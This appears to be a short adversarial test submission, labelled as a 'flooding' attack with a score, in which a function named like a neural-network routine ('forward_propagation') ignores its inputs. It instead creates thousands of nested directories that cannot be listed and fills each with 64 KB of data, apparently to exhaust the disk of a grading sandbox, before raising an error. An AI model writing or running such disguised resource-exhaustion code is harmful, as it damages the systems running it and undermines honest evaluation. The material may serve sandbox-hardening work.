# tries: write into folders that nobody can list, one in another | class: flooding | earns at most: 72
import os


def forward_propagation(X, parameters):
    done = []
    try:
        for i in range(10_000):
            os.mkdir("d", 0o300)
            os.chdir("d")
            with open("x", "wb") as file:
                file.write(bytes(2**16))
    except OSError as error:
        done.append(type(error).__name__)
    raise RuntimeError(f"done: {done}"[-280:])
